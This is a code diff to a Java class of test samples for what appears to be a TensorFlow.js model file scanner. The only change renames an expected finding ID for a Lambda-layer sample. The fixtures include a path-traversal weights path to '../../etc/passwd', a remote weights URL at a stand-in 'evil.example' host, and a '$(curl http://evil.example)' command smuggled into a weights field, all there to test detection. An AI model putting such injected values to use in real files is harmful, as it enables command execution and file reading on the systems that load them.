@@ -22,7 +22,7 @@ public final class TfjsSamples {
                 FormatCase.of("model.json", model("Dense", "group1-shard1of1.bin")),
                 FormatCase.of("parent.json", model("Dense", "../../etc/passwd"), "model/tfjs-weights-path"),
                 FormatCase.of("address.json", model("Dense", "https://evil.example/w.bin"), "model/tfjs-weights-path"),
-                FormatCase.of("lambda.json", model("Lambda", "group1-shard1of1.bin"), "model/tfjs-lambda-layer"),
+                FormatCase.of("lambda.json", model("Lambda", "group1-shard1of1.bin"), "model/keras-lambda"),
                 FormatCase.of("command.json", model("Dense", "$(curl http://evil.example)"), "model/embedded-command"),
                 FormatCase.of(
                         "broken.json", "{\"modelTopology\":{,}}".getBytes(StandardCharsets.UTF_8), "gap:malformed"));
